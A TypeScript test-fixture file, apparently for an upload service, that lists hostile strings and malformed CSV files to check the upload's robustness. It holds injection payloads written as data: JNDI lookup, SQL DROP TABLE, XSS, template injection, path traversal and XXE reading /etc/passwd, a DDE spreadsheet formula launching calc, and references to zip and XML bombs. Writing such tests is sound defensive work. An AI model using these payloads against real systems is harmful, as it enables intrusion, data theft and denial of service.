import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

/** Texts that have broken programs: each must come back as it was sent, or be refused by name. */
export const NAUGHTY: [what: string, text: string][] = [
  ['line breaks of a header', 'Zeile\r\nSet-Cookie: a=b\r\n\r\n<html>'],
  ['colours of a terminal', '\u001b[31mrot\u001b[0m\u001b]0;Titel\u0007'],
  ['text that turns round', 'rechnung\u202Efdp.exe\u2066x\u2069'],
  ['a lookup', '${jndi:ldap://example.org/a}'],
  ['a template', '{{7*7}}#{7*7}<%= 7*7 %>'],
  ['a script', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['a statement', `'; DROP TABLE requests.access_request; --`],
  ['a path', '../../../../etc/passwd'],
  ['a formula', '=HYPERLINK("http://example.org";"x")'],
  ['NUL', 'vor\0nach'],
  ['half a character', 'x\uD83D'],
  ['the other half', '\uDE00x'],
  ['one letter in two signs', 'Gru\u0308n'],
  ['no character', '\uFFFE\uFFFF\u{1FFFF}'],
  ['white space only', ' \t\u00A0\u2003\u200B\uFEFF'],
  ['nothing', ''],
  ['words of JavaScript', '__proto__'],
  ['an emoji of many parts', '👩🏽‍❤️‍💋‍👨🏻 🏴󠁧󠁢󠁳󠁣󠁴󠁿'],
  ['letters piled up', `Z${'\u0335\u0349\u0301'.repeat(60)}`],
  ['what a slow pattern waits for', `${'a'.repeat(30_000)}!`],
  ['many blanks before an end', `${' '.repeat(30_000)}x`],
  ['dashes for a slow date', `${'2026-'.repeat(5_000)}`],
  ['a number', '9007199254740993'],
  ['percent', '%s%n%00%0d%0a%2e%2e'],
];

/** The Big List of Naughty Strings, where the folder with public data is given. */
export function bigList(): string[] {
  const file = join(process.env.DATENRAUM_TESTDATA ?? '/nowhere', 'hostile/naughty-strings/blns.json');
  return existsSync(file) ? (JSON.parse(readFileSync(file, 'utf8')) as string[]) : [];
}

/** Files that are no honest CSV, and what the upload may say: a code, or `any` when both ways are right. */
export const FILES: [what: string, content: () => Buffer | string, name?: string][] = [
  ['nothing', () => ''],
  ['a byte order mark alone', () => '\uFEFF'],
  ['a header alone', () => 'a;b;c\n'],
  ['NUL bytes', () => Buffer.from('a;b\n1;\0\0\n')],
  ['a quotation that never ends', () => `a;b\n1;"${'x\n'.repeat(2_000)}`],
  ['rows of all lengths', () => 'a;b;c\n1\n1;2\n1;2;3;4;5\n'],
  ['the same column twice', () => 'a;a;a\n1;2;3\n'],
  ['columns without a name', () => ';;\n1;2;3\n'],
  ['names made of commands', () => `"'; DROP TABLE x; --";"\${jndi:ldap://x}";"__proto__"\n1;2;3\n`],
  ['20 001 columns', () => `${Array.from({ length: 20_001 }, (_, i) => `s${i}`).join(';')}\n`],
  ['one endless line', () => 'x'.repeat(9_000_000)],
  ['a cell of 2 MB', () => `a;b\n1;${'y'.repeat(2_000_000)}\n`],
  [
    'two encodings',
    () =>
      Buffer.concat([
        Buffer.from('stra\u00DFe;ort\nGr\u00FCnweg;', 'utf8'),
        Buffer.from([0xe4, 0xf6, 0xfc, 0xdf, 0x0a]),
      ]),
  ],
  ['UTF-16', () => Buffer.from('a;b\n1;2\n', 'utf16le')],
  ['a ZIP archive', () => Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(400, 7)]), 'tabelle.csv'],
  ['a PDF', () => '%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'],
  ['a web page', () => '<!DOCTYPE html><html><body>Anmeldung abgelaufen</body></html>'],
  ['XML with an entity', () => '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  ['a program', () => Buffer.concat([Buffer.from([0x7f]), Buffer.from('ELF'), Buffer.alloc(300, 1)])],
  ['formulas', () => `a;b\n=cmd|' /C calc'!A0;@SUM(1+1)\n+1;-1\n`],
  ['random bytes', () => Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7919 + 13) % 256))],
];

/** The hostile files of the folder with public data. */
export function hostileFiles(): [what: string, content: () => Buffer, name?: string][] {
  const folder = join(process.env.DATENRAUM_TESTDATA ?? '/nowhere', 'hostile');
  return [
    'archives/zipbomb.xlsx',
    'xlsx/poc-xmlbomb.xlsx',
    'csv-injection/payloadbox_csv-payload.txt',
    'naughty-strings/blns.txt',
  ]
    .map((path) => join(folder, path))
    .filter((path) => existsSync(path))
    .map((path) => [path.slice(folder.length + 1), () => readFileSync(path), 'tabelle.csv']);
}
